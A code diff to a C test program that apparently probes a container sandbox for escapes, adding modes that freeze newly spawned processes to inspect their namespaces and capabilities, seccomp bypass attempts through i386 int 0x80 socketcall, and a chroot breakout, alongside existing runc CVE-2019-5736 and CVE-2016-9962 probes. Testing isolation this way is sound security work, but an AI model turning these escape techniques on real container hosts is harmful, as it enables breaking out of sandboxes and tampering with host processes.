@@ -3,7 +3,10 @@
  *   exchange A B SECONDS   swap two names as fast as possible: a race against whoever walks there
  *   overwrite SECONDS      look for programs of the host in /proc/PID/exe, and open them for writing (CVE-2019-5736)
  *   look SECONDS           tell what can be reached through the processes that come by (CVE-2016-9962)
- *   calls                  what Docker's seccomp profile refuses, one "name errno" a line
+ *   stop SECONDS           the same of processes it stops as soon as they are there, with their rights and namespaces
+ *   hold SECONDS           and they stay stopped
+ *   calls                  what Docker's seccomp profile refuses, one "name errno" a line; and what i386's way round does
+ *   climb                  chroot deeper with the old directory at hand, and from there up as far as it goes
  *   abstract NAME          what an abstract unix socket answers, or why it does not
  *
  * It does nothing but `exchange` unless it is pid 1: the first process of a container, never one of the host. And no
@@ -18,10 +21,12 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/un.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -106,6 +111,54 @@ static void look(int pid) {
     if (directory) closedir(directory);
 }
 
+/* What a process that is stopped has and we have not: namespaces, and in our user namespace capabilities. And how many
+ * descriptors it has. */
+static void look_at_rights(int pid) {
+    static const char *const KINDS[] = {"user", "mnt", "net", "ipc", "uts", "cgroup", "pid", "time"};
+    char path[64], own[64], theirs[64], line[256];
+    int foreign = 0, count = 0;
+    for (size_t i = 0; i < sizeof KINDS / sizeof *KINDS; i++) {
+        memset(own, 0, sizeof own);
+        memset(theirs, 0, sizeof theirs);
+        snprintf(path, sizeof path, "/proc/self/ns/%s", KINDS[i]);
+        if (readlink(path, own, sizeof own - 1) < 0) continue;
+        snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, KINDS[i]);
+        if (readlink(path, theirs, sizeof theirs - 1) < 0 || strcmp(own, theirs) == 0) continue;
+        if (i == 0) foreign = 1;
+        snprintf(line, sizeof line, "namespace %s", theirs);
+        tell(line);
+    }
+    snprintf(path, sizeof path, "/proc/%d/status", pid);
+    FILE *status = fopen(path, "r");
+    while (status && !foreign && fgets(line, sizeof line, status))
+        if (strncmp(line, "CapPrm:", 7) == 0 || strncmp(line, "CapBnd:", 7) == 0) {
+            line[strcspn(line, "\n")] = 0;
+            tell(line);
+        }
+    if (status) fclose(status);
+    snprintf(path, sizeof path, "/proc/%d/fd", pid);
+    DIR *directory = opendir(path);
+    struct dirent *entry;
+    while (directory && (entry = readdir(directory))) count += *entry->d_name != '.';
+    if (directory) closedir(directory);
+    snprintf(line, sizeof line, "descriptors %d", count);
+    tell(line);
+}
+
+/* Pids are given out one after the other, so the next ones are known: each is stopped in the moment it is there. */
+static void stop_and_look(double seconds, int go_on) {
+    int last = 1;
+    for (double end = now() + seconds; now() < end;)
+        for (int pid = last + 1; pid < last + 8; pid++) {
+            if (kill(pid, SIGSTOP) < 0) continue;
+            tell("stopped");
+            look(pid);
+            look_at_rights(pid);
+            if (go_on) kill(pid, SIGCONT);
+            last = pid;
+        }
+}
+
 static void every_process(double seconds, void (*act)(int)) {
     for (double end = now() + seconds; now() < end;) {
         DIR *directory = opendir("/proc");
@@ -119,6 +172,38 @@ static void every_process(double seconds, void (*act)(int)) {
 }
 
 static void result(const char *name, long value) { printf("%s %d\n", name, value < 0 ? errno : 0); }
+
+#ifdef __x86_64__
+static long int80(long number, long first, long second, long third) {
+    long value;
+    __asm__ volatile("int $0x80"
+                     : "=a"(value)
+                     : "a"(number), "b"(first), "c"(second), "d"(third)
+                     : "memory", "r8", "r9", "r10", "r11");
+    if (value >= 0) return value;
+    errno = (int)-value;
+    return -1;
+}
+
+/* i386's socketcall(SYS_SOCKET), whose arguments are in memory. A kernel without 32-bit programs ends the child. */
+static void socketcalls(void) {
+    int status = 0;
+    pid_t child = fork();
+    if (child == 0) _exit(int80(20, 0, 0, 0) < 0);
+    unsigned *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    if (waitpid(child, &status, 0) != child || status || arguments == MAP_FAILED) return;
+    const unsigned wanted[][3] = {{38, SOCK_SEQPACKET, 0}, {40, SOCK_STREAM, 0}};
+    for (int i = 0; i < 2; i++) {
+        memcpy(arguments, wanted[i], sizeof wanted[i]);
+        result(i ? "socketcall_vsock" : "socketcall_alg", int80(102, 1, (long)arguments, 0));
+        result(i ? "socketcall_vsock_high" : "socketcall_alg_high", int80(102, 1L << 32 | 1, (long)arguments, 0));
+    }
+    result("i386_socket_alg", int80(359, 38, SOCK_SEQPACKET, 0));
+    result("i386_socket_vsock", int80(359, 40, SOCK_STREAM, 0));
+}
+#else
+static void socketcalls(void) {}
+#endif
 
 /* The profile is asked before the arguments are looked at, so all of these are wrong ones. */
 static void calls(void) {
@@ -154,6 +239,7 @@ static void calls(void) {
     result("clone_newuser", syscall(SYS_clone, CLONE_NEWUSER | CLONE_FS | SIGCHLD, 0, 0, 0, 0));
     result("af_alg", socket(38, -1, 0));
     result("af_vsock", socket(40, -1, 0));
+    socketcalls();
 }
 
 static void ask(const char *name) {
@@ -166,13 +252,30 @@ static void ask(const char *name) {
     else if (read(fd, answer, sizeof answer - 1) > 0) printf("%s", answer);
 }
 
+/* Out of a chroot, for who may chroot. Out of a root that was pivoted to there is nowhere to go. */
+static void climb(void) {
+    struct stat here, above;
+    mkdir("/deeper", 0700);
+    if (chroot("/deeper") < 0) return perror("chroot");
+    do {
+        stat(".", &here);
+        if (chdir("..") < 0 || stat(".", &above) < 0) return perror("..");
+    } while (here.st_dev != above.st_dev || here.st_ino != above.st_ino);
+    if (chroot(".") < 0) return perror("chroot");
+    tell(access("/run/pyrun-attacks", F_OK) == 0 ? "OUTSIDE" : "inside");
+    pause();
+}
+
 int main(int argc, char **argv) {
     double seconds = argc > 2 ? atof(argv[argc - 1]) : 0;
     if (argc == 5 && strcmp(argv[1], "exchange") == 0) return exchange(argv[2], argv[3], seconds);
     if (getpid() != 1) return 64;
     if (argc == 3 && strcmp(argv[1], "overwrite") == 0) every_process(seconds, try_to_write);
     else if (argc == 3 && strcmp(argv[1], "look") == 0) every_process(seconds, look);
+    else if (argc == 3 && strcmp(argv[1], "stop") == 0) stop_and_look(seconds, 1);
+    else if (argc == 3 && strcmp(argv[1], "hold") == 0) stop_and_look(seconds, 0);
     else if (argc == 2 && strcmp(argv[1], "calls") == 0) calls();
+    else if (argc == 2 && strcmp(argv[1], "climb") == 0) climb();
     else if (argc == 3 && strcmp(argv[1], "abstract") == 0) ask(argv[2]);
     else return 64;
     return 0;
